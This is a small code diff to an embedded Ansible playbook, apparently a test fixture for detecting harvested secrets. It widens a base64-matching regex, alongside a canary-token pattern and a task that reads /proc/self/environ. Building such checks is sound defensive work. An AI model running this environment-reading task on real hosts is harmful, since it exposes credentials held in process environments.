@@ -54,7 +54,7 @@ TAKING: Final = """\
   vars:
     ansible_python_interpreter: /usr/bin/python3
     wanted: "canary-plan-[0-9a-f]{24}"
-    long: "[0-9A-Za-z+/]{40,}"
+    long: "[0-9A-Za-z+/=]{40,}"
   tasks:
     - ansible.builtin.slurp: {src: /proc/self/environ}
       register: taken
